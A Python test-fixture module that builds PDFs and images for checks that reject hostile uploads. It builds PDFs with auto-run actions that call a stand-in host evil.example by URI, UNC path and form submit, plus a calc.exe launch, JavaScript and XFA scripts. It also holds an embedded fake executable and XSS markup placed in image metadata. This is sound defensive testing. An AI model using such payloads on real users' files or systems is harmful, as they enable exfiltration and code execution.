"""Real files for the upload checks, made with the libraries a hostile sender would use.

PDFs are written by pikepdf (qpdf): a plain one-page voucher, and one PDF for each kind of
action or embedded file, each also with every dictionary inside a compressed object stream
(where no byte search sees the keys). Images are written by Pillow: a phone-like JPEG with
EXIF (orientation, GPS, camera), a colour profile and a comment, and a PNG with text chunks.
"""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

UNC = "\\\\evil.example\\share\\payload.pdf"


def _action(kind: str, **fields) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **fields)


ACTIONS = {  # kind: (fields of the action, the Chinese word the refusal uses)
    "URI": ({"URI": String("https://evil.example/collect")}, "打开链接"),
    "GoToR": ({"F": String(UNC), "D": Array([0, Name.Fit])}, "打开其他文件"),
    "GoToE": ({"T": Dictionary(R=Name.C, N=String("x"))}, "打开嵌入的文件"),
    "Launch": ({"F": String("C:\\Windows\\System32\\calc.exe")}, "启动程序"),
    "JavaScript": ({"JS": String("app.alert(1)")}, "运行脚本"),
    "SubmitForm": ({"F": String("https://evil.example/form")}, "提交表单"),
    "ImportData": ({"F": String(UNC)}, "导入数据"),
}


def action(kind: str) -> Dictionary:
    return _action(kind, **ACTIONS[kind][0])


def _save(pdf: pikepdf.Pdf, object_streams: bool) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    # the same bytes in every test process (xdist workers must collect the same tests)
    pdf.save(out, object_stream_mode=mode, compress_streams=True, deterministic_id=True)
    return out.getvalue()


def _voucher() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(298, 420))
    page = pdf.pages[0]
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(b"BT /F1 11 Tf 24 380 Td (Payment voucher 27600.00) Tj ET")
    return pdf


def plain_pdf(*, object_streams: bool = False) -> bytes:
    """A one-page voucher whose opening shows page 1 whole and whose link goes to page 1."""
    pdf = _voucher()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([20, 20, 120, 40]),
        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([link]))
    return _save(pdf, object_streams)


def _open_action(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(action)


def _document_trigger(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.AA = Dictionary(WC=action)  # before the document closes


def _page_trigger(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action)  # when the page opens


def _after_a_plain_go_to(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([action]))


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _field_trigger(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    widget = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("amount"),
        Rect=Array([0, 0, 50, 50]),
        AA=Dictionary(E=action),  # when the pointer enters the field
    )
    widget = pdf.make_indirect(widget)
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


PLACES = {  # where the action sits: (builder, automatic?)
    "open_action": (_open_action, True),
    "document_aa": (_document_trigger, True),
    "page_aa": (_page_trigger, True),
    "next_of_go_to": (_after_a_plain_go_to, True),
    "field_aa": (_field_trigger, True),
    "link": (_link, False),
}


def pdf_with_action(place: str, kind: str, *, object_streams: bool = False) -> bytes:
    pdf = _voucher()
    PLACES[place][0](pdf, action(kind))
    return _save(pdf, object_streams)


def action_reason(place: str, kind: str) -> str:
    automatic = "自动执行的" if PLACES[place][1] else ""
    return f"文件含有{automatic}动作（{ACTIONS[kind][1]}），已拒收"


def pdf_with_document_script(*, object_streams: bool = False) -> bytes:
    pdf = _voucher()
    script = pdf.make_indirect(action("JavaScript"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return _save(pdf, object_streams)


def pdf_with_embedded_file(*, object_streams: bool = False) -> bytes:
    pdf = _voucher()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + bytes(60))
    return _save(pdf, object_streams)


def pdf_with_file_annotation(*, object_streams: bool = False) -> bytes:
    pdf = _voucher()
    spec = pikepdf.AttachedFileSpec(pdf, b"<html><script>alert(1)</script></html>")
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=spec.obj
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])
    return _save(pdf, object_streams)


def pdf_with_rich_media(*, object_streams: bool = False) -> bytes:
    """A RichMedia annotation: Flash or video the viewer plays when the page opens."""
    pdf = _voucher()
    activation = Dictionary(Type=Name.RichMediaActivation, Condition=Name.PO)
    media = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 100, 100]),
        RichMediaSettings=Dictionary(Activation=activation),
        RichMediaContent=Dictionary(
            Configurations=Array([Dictionary(Type=Name.RichMediaConfiguration, Subtype=Name.Flash)])
        ),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(media)])
    return _save(pdf, object_streams)


def pdf_with_xfa(*, object_streams: bool = False) -> bytes:
    """An XFA form: an XML form the viewer runs, scripts and submissions included."""
    pdf = _voucher()
    xdp = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('https://evil.example/')</script></event></subform></template></xdp:xdp>"
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xdp)
    return _save(pdf, object_streams)


# Images


def _picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    image = Image.new(mode, (width, height), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle([0, 0, width // 2, height // 3], fill="red")
    draw.line([0, height - 1, width - 1, 0], fill="blue", width=3)
    return image


SRGB_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def phone_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "EvilPhone"  # Make
    exif[0x0110] = "Model <script>alert(1)</script>"  # Model
    exif[0x0112] = 6  # Orientation: turn 90° clockwise to view
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}  # GPS
    return exif


def plain_jpeg(width: int = 8, height: int = 8) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(out, "JPEG")
    return out.getvalue()


def photo_jpeg(width: int = 64, height: int = 48, *, after: bytes = b"") -> bytes:
    """A JPEG as a phone writes it: EXIF with orientation and GPS, an ICC profile, a comment."""
    out = io.BytesIO()
    _picture(width, height).save(
        out,
        "JPEG",
        quality=90,
        exif=phone_exif(),
        icc_profile=SRGB_PROFILE,
        comment=b"<html><script>alert(1)</script></html>",
    )
    return out.getvalue() + after


def screenshot_png(width: int = 40, height: int = 30, mode: str = "RGBA") -> bytes:
    """A PNG with text chunks (one of them markup), EXIF and an ICC profile."""
    info = PngInfo()
    info.add_text("Comment", "<html><script>alert(1)</script></html>")
    info.add_itxt("Author", "张三 13800138000", lang="zh")
    out = io.BytesIO()
    _picture(width, height, mode).save(
        out, "PNG", pnginfo=info, exif=phone_exif(), icc_profile=SRGB_PROFILE
    )
    return out.getvalue()


MZ_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50)
HTML_PAGE = b'<!DOCTYPE html><a href="javascript:alert(document.cookie)">x</a>'
